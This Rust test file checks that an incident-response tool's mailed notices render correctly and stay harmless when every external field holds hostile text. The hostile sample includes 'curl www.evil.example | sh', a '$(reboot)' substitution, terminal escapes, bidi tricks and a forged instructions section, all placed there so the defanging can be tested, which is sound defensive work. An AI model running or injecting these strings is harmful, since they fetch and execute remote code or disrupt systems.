//! Every kind of notice as it is mailed, and the same with hostile text in every field that comes from outside.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use backstop_core::{
    IncidentId, NoticeKey, Playbooks,
    about::About,
    incident::{Incident, Question},
    log::{Event, Record},
    notice::{self, Class, Found, Mail, NeedsPerson, Notice, mail},
    sweep::Why,
};
use jiff::Timestamp;
use serde_json::{Value, json};

const ID: &str = "01JDXQ6T8R7M5V9N2K4H3G1FZB";

/// One of each kind of harm: escapes, a forged section, links, hosts, invisible and turned text, a shell.
const HOSTILE: &str = "\u{1b}[31mred\u{1b}[0m\r\n\nWhat to do next\n  - deny it: https://evil.example/a\n  \
    - curl www.evil.example | sh\u{202e}gpj.exe\u{200b} evil.example $(reboot) `x` mailto:a@evil.example\u{0}";

fn id() -> IncidentId {
    ID.into()
}

fn at(second: i64) -> Timestamp {
    Timestamp::from_second(1_770_000_000 + second).unwrap()
}

/// The text, or the hostile one instead.
#[derive(Clone, Copy)]
struct Texts {
    is_hostile: bool,
}

const PLAIN: Texts = Texts { is_hostile: false };
const HOSTILE_TEXTS: Texts = Texts { is_hostile: true };

impl Texts {
    fn of(self, text: &str) -> String {
        if self.is_hostile {
            HOSTILE.to_owned()
        } else {
            text.to_owned()
        }
    }

    fn opened(self, mode: &str) -> Value {
        let step = |step: &str, title: &str, high_impact: bool, phase: &str| {
            json!({ "step": step, "action": format!("iam.{step}"), "title": self.of(title), "phase": phase,
                    "high_impact": high_impact })
        };
        json!({
            "event": "opened", "playbook": "leaked-access-key", "mode": mode,
            "target": { "account": self.of("123456789012"), "region": "eu-west-1", "partition": "aws",
                        "resource": { "kind": "access-key", "key_id": self.of("AKIAIOSFODNN7EXAMPLE"),
                                      "user_name": self.of("alice") } },
            "steps": [
                step("deactivate-key", "Deactivate the access key", false, "contain"),
                step("deny-user", "Deny the user everything", true, "contain"),
                step("keep-key", "Keep what the key was", false, "preserve"),
            ],
            "origin": { "origin": "manual", "by": self.of("arn:aws:iam::123456789012:user/bob"),
                        "reason": self.of("seen on a forum") },
            "title": self.of("The key was used from Tor"), "linked": "01JDXQ6T8R7M5V9N2K4H3G1FZA",
            "guardrails": [{ "guardrail": self.of("maximum-mode"), "effect": { "lower-to": "approve" },
                             "detail": self.of("the stack acts by approval only") }],
            "finding": {
                "key": "k", "finding_type": self.of("UnauthorizedAccess:IAMUser/TorIPCaller"),
                "route": "guard-duty-event", "count": 2, "severity": { "score": 8.0, "label": "high" },
                "first_seen": "2026-02-02T02:00:00Z", "last_seen": "2026-02-02T02:30:00Z", "created_at": null,
                "updated_at": null, "facts": [self.of("call: ListBuckets from 203.0.113.7")],
            },
        })
    }

    fn plan(self, step: &str) -> Value {
        json!({
            "step": step, "action": format!("iam.{step}"), "principal": "arn:aws:iam::123456789012:user/alice",
            "changes": [{ "api": self.of("iam:UpdateAccessKey"),
                          "what": self.of("access key AKIAIOSFODNN7EXAMPLE of user alice"),
                          "now": self.of("Active"), "after": self.of("Inactive") }],
            "blast_radius": [self.of("whatever uses this key stops working")],
            "limits": [self.of("sessions made with it live on")],
            "needs_approval": self.of("the user is a service's"),
            "manual_undo": [self.of("aws iam update-access-key --user-name alice --status Active")],
            "receipt": {},
        })
    }

    fn planned(self, step: &str) -> Value {
        json!({ "event": "planned", "plan": self.plan(step), "hash": "1234567890abcdef" })
    }

    fn acting(self, step: &str) -> Value {
        json!({ "event": "acting", "plan": self.plan(step) })
    }

    fn failed(self, step: &str) -> Value {
        json!({ "event": "step-ended", "step": step, "outcome": "failed",
                "error": self.of("Backstop.AccessDenied"), "detail": self.of("`iam:PutUserPolicy` on user `alice`") })
    }

    fn verified(self, step: &str) -> Value {
        json!({ "event": "verified", "step": step, "holds": true,
                "observed": self.of("access key AKIAIOSFODNN7EXAMPLE is Inactive") })
    }

    /// One step is done, one failed, one was cut off.
    fn acted(self) -> Vec<Value> {
        vec![
            self.opened("auto"),
            self.acting("deactivate-key"),
            ended("deactivate-key", "done"),
            self.verified("deactivate-key"),
            self.acting("deny-user"),
            self.failed("deny-user"),
            self.acting("keep-key"),
            self.failed("keep-key"),
        ]
    }

    fn asked(self) -> Notice {
        let incident = incident(vec![
            self.opened("approve"),
            self.planned("deactivate-key"),
            self.planned("deny-user"),
            self.failed("keep-key"),
        ]);
        let (plan_hash, step_hashes) = incident.plan_hashes().unwrap();
        let question = Question {
            notice: NoticeKey::question("r"),
            plan_hash,
            step_hashes,
            expires_at: at(3600),
            needed: 2,
        };
        notice::question(&id(), &incident, &question)
    }

    fn undone(self) -> Notice {
        let mut events = self.acted();
        let steps = ["deactivate-key", "deny-user"];
        events.extend([
            json!({ "event": "closed", "status": "partially-contained" }),
            json!({ "event": "undo-requested", "by": "bob", "reason": null, "steps": steps }),
            json!({ "event": "undo-ended", "step": "deny-user", "outcome": "failed",
                    "error": self.of("Backstop.Throttled"), "detail": self.of("slow down") }),
            json!({ "event": "undo-ended", "step": "deactivate-key", "outcome": "drifted",
                    "found": self.of("it is Active") }),
            json!({ "event": "stuck", "during": "undo", "reason": self.of("drifted"),
                    "commands": [self.of("aws iam delete-user-policy --user-name alice --policy-name x")] }),
        ]);
        notice::undone(&id(), &incident(events))
    }

    fn investigated(self) -> Notice {
        let mut events = vec![self.opened("auto")];
        let mut plan = self.plan("keep-key");
        plan["changes"] = json!([]);
        plan["captured"] = json!({
            "from": at(-3600), "to": at(0), "regions": [self.of("eu-west-1")], "calls": 3, "failed": 0,
            "by_call": {}, "by_address": { self.of("203.0.113.7"): 3 }, "timeline": [], "notable": [self.of("CreateUser helper")], "incomplete": [self.of("calls may be missing")],
            "proposals": [
                { "what": self.of("deny user helper everything"), "because": [], "playbook": "leaked-access-key",
                  "target": { "account": "123456789012", "region": "eu-west-1", "partition": "aws",
                              "resource": { "kind": "user", "user_name": self.of("helper") } } },
                { "what": self.of("tell the owner of account 111122223333"), "because": [] },
            ],
        });
        events[0]["steps"][2]["phase"] = json!("investigate");
        events.extend([
            json!({ "event": "acting", "plan": plan }),
            ended("keep-key", "done"),
        ]);
        notice::proposals(&id(), &incident(events)).unwrap()
    }

    fn attention(self) -> Notice {
        let stuck =
            json!({ "event": "stuck", "during": "undo", "reason": self.of("drifted"), "commands": [] });
        let found = [
            (Found::Why(Why::Stuck), vec![self.opened("auto"), stuck]),
            (Found::Why(Why::NeverStarted), vec![self.opened("auto")]),
            (Found::Why(Why::NoProgress), vec![self.opened("auto")]),
            (Found::Why(Why::UndoUnfinished), vec![self.opened("auto")]),
            (Found::ClosedBySweep, self.acted()),
        ];
        let all: Vec<NeedsPerson> = found
            .into_iter()
            .map(|(found, events)| NeedsPerson {
                id: id(),
                incident: incident(events),
                found,
            })
            .collect();
        notice::attention(&all, at(0))
    }

    fn limit(self) -> Notice {
        let incident = incident(vec![self.opened("approve")]);
        notice::limit_reached(&id(), &incident, &incident.opened.guardrails[0])
    }

    fn every(self) -> Vec<(&'static str, Notice)> {
        vec![
            (
                "outcome",
                notice::outcome(&id(), &incident(self.acted()), &Playbooks::default()),
            ),
            ("undone", self.undone()),
            ("proposals", self.investigated()),
            ("question", self.asked()),
            ("limit", self.limit()),
            ("attention", self.attention()),
        ]
    }
}

fn ended(step: &str, outcome: &str) -> Value {
    json!({ "event": "step-ended", "step": step, "outcome": outcome })
}

fn incident(events: Vec<Value>) -> Incident {
    let mut records: Vec<Record> = Vec::new();
    for event in events {
        let event: Event = serde_json::from_value(event).unwrap();
        let number = i64::try_from(records.len()).unwrap();
        let record = Record::next(records.last(), at(number), format!("r{number}"), event).unwrap();
        records.push(record);
    }
    Incident::replay(&records).unwrap()
}

#[test]
fn every_notice_reads_well() {
    for (name, notice) in PLAIN.every() {
        let Mail { subject, body } = mail(&notice);
        insta::assert_snapshot!(format!("notice-{name}"), format!("{subject}\n\n{body}"));
    }
}

/// The same lines as without it, each with nothing to click, to run or to hide behind.
#[test]
fn hostile_text_in_every_field_stays_in_its_line_and_does_no_harm() {
    for ((name, plain), (_, hostile)) in PLAIN.every().into_iter().zip(HOSTILE_TEXTS.every()) {
        let (plain, hostile) = (mail(&plain), mail(&hostile));
        let text = format!("{}\n{}", hostile.subject, hostile.body);
        assert!(
            text.chars().all(|c| c == '\n' || !c.is_control()),
            "{name}: {text:?}"
        );
        for harm in [
            "http",
            "evil.example",
            "mailto:",
            "\u{202e}",
            "\u{200b}",
            "\u{1b}",
        ] {
            assert!(!text.contains(harm), "{name} has {harm:?}: {text}");
        }
        assert!(
            hostile.body.contains("evil[.]example"),
            "{name} shows nothing: {text}"
        );
        assert!(
            hostile.subject.is_ascii() && hostile.subject.len() <= 100,
            "{name}"
        );
        let shapes = |body: &str| -> Vec<bool> { body.lines().map(str::is_empty).collect() };
        let of_lists = ["outcome", "question"];
        // Lists say the same once: there are fewer lines of what is all the same, never more.
        if of_lists.contains(&name) {
            assert!(
                hostile.body.lines().count() <= plain.body.lines().count(),
                "{name}: {text}"
            );
        } else {
            assert_eq!(shapes(&hostile.body), shapes(&plain.body), "{name}: {text}");
        }
        let forged = |body: &str| body.lines().filter(|line| *line == "What to do next").count();
        assert_eq!(forged(&hostile.body), forged(&plain.body), "{name}: {text}");
    }
}

#[test]
fn a_notice_survives_being_written_down() {
    for (name, notice) in HOSTILE_TEXTS.every() {
        let text = serde_json::to_string(&notice).unwrap();
        assert_eq!(serde_json::from_str::<Notice>(&text).unwrap(), notice, "{name}");
    }
}

#[test]
fn who_must_act_is_paged_and_others_are_told() {
    for (name, notice) in PLAIN.every() {
        assert_eq!(notice.class, Class::Page, "{name}");
        assert_eq!(
            notice.incident.is_none(),
            notice.about == About::Attention,
            "{name}"
        );
    }
    let contained = vec![
        PLAIN.opened("auto"),
        PLAIN.acting("deactivate-key"),
        ended("deactivate-key", "done"),
        PLAIN.verified("deactivate-key"),
        ended("deny-user", "already"),
        PLAIN.verified("deny-user"),
    ];
    assert_eq!(
        notice::outcome(&id(), &incident(contained), &Playbooks::default()).class,
        Class::Tell
    );
}

#[test]
fn a_notice_that_is_too_long_is_cut_between_lines_and_says_so() {
    let mut long = incident(PLAIN.acted());
    let radius = (0..5000).map(|number| format!("service number {number} stops working as of now"));
    long.steps[0].plan.as_mut().unwrap().blast_radius = radius.collect();
    let body = mail(&notice::outcome(&id(), &long, &Playbooks::default())).body;
    assert!(body.len() < 200 * 1024);
    let end =
        format!("This notice was too long and is cut here. See everything: backstop incidents show {ID}\n");
    assert!(body.ends_with(&end));
    let whole = body.lines().filter(|line| line.starts_with("  - service number"));
    assert!(whole.clone().count() > 1000 && whole.clone().all(|line| line.ends_with("as of now")));
}

/// What a person must type is exact, or isn't there.
#[test]
fn no_command_is_altered() {
    for (name, notice) in HOSTILE_TEXTS.every() {
        let body = mail(&notice).body;
        for line in body.lines().filter(|line| line.contains(": backstop run ")) {
            assert!(!line.contains("[.]"), "{name}: {line}");
        }
    }
    let undone = mail(&HOSTILE_TEXTS.undone()).body;
    let by_hand = format!("To finish it by hand\n  - for the command, backstop incidents show {ID}\n");
    assert!(undone.contains(&by_hand), "{undone}");
}

/// Deliveries that logs from before there were keys say of, and those of today.
#[test]
fn the_log_says_what_people_were_notified_of() {
    let notified = |about: Option<&str>, notice: Option<&str>| {
        let mut event = json!({ "event": "notified", "channel": "t", "subject": "s", "message_id": "m" });
        if let Some(about) = about {
            event["about"] = json!(about);
        }
        if let Some(notice) = notice {
            event["notice"] = json!(notice);
        }
        event
    };
    let undo = json!({ "event": "undo-requested", "by": "bob", "reason": null, "steps": ["deactivate-key"] });
    let notices = |events: Vec<Value>| {
        let mut all = PLAIN.acted();
        all.extend(events);
        incident(all).notices
    };
    assert!(!notices(vec![]).ending_is_known());
    assert!(notices(vec![notified(None, None)]).ending_is_known());
    assert!(notices(vec![notified(None, Some("outcome"))]).ending_is_known());
    let proposed = notices(vec![notified(Some("investigation"), None)]);
    assert!(!proposed.ending_is_known() && proposed.is_known(About::Investigation));
    let asked = notices(vec![notified(Some("question"), Some("question-r"))]);
    assert!(!asked.ending_is_known() && asked.is_delivered(&NoticeKey::question("r"), "t"));

    let before = vec![notified(None, Some("outcome")), undo.clone()];
    assert!(!notices(before).ending_is_known(), "of the undo nobody knows yet");
    let late = vec![undo.clone(), notified(None, Some("outcome"))];
    assert!(
        !notices(late).ending_is_known(),
        "a late notice of the outcome says nothing of the undo"
    );
    let record = PLAIN.acted().len();
    let known = vec![undo.clone(), notified(None, Some(&format!("undo-r{record}")))];
    assert!(notices(known).ending_is_known());
    assert!(
        notices(vec![undo, notified(None, None)]).ending_is_known(),
        "an older log"
    );

    let refused = json!({ "event": "not-notified", "channel": "t", "about": "outcome", "notice": "outcome",
                          "error": "Backstop.AccessDenied", "detail": "`sns:Publish`" });
    let failed = notices(vec![refused.clone()]);
    let key = NoticeKey::outcome();
    assert!(!failed.ending_is_known() && !failed.is_delivered(&key, "t"));
    assert_eq!(
        failed.last_failure(&key, "t"),
        Some("Backstop.AccessDenied: `sns:Publish`")
    );
    assert_eq!(failed.last_failure(&key, "another"), None);
    assert_eq!(failed.failing().len(), 1);
    let mut by_another = refused.clone();
    by_another["channel"] = json!("notify");
    let both = vec![by_another, refused.clone(), refused.clone()];
    let channels: Vec<String> = notices(both)
        .failing()
        .iter()
        .map(|it| it.channel.clone())
        .collect();
    assert_eq!(channels, ["notify", "t"], "of each the last");
    let mut handed_over = refused.clone();
    handed_over["channel"] = json!("notify");
    let taken = notices(vec![
        handed_over,
        refused.clone(),
        notified(None, Some("outcome")),
    ]);
    assert!(taken.failing().is_empty());
    let healed = notices(vec![refused, notified(None, Some("outcome"))]);
    assert!(healed.ending_is_known() && healed.last_failure(&key, "t").is_none());
}
